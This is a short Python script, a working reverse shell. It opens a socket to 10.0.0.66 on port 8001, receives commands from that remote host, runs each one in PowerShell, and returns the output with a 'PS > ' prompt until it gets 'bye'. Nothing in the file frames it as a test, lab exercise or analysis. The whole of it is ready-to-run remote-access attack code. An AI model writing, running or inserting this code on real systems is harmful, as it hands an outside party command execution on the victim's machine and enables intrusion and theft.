import socket
import subprocess

HOST = "10.0.0.66"
PORT = 8001
s = socket.socket()
s.connect((HOST, PORT))
s.send(b"PS > ")
while 1:
    cmd = s.recv(1024).decode("utf-8")
    if cmd.strip() == "bye":
        break
    p = subprocess.Popen(["powershell.exe", "-NoP", "-Command", cmd], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    s.send(p.stdout.read() + p.stderr.read() + b"PS > ")
s.close()
